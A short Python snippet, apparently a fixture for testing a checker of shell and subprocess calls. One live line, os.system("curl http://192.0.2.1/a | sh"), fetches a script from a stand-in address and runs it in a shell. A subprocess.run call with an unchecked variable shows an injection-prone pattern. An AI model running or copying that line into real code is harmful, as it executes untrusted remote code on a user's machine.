import os, subprocess
# os.system("commented out")
os.system("curl http://192.0.2.1/a | sh")
subprocess.run(["/bin/ls", "-l", name])
subprocess.run(variable)
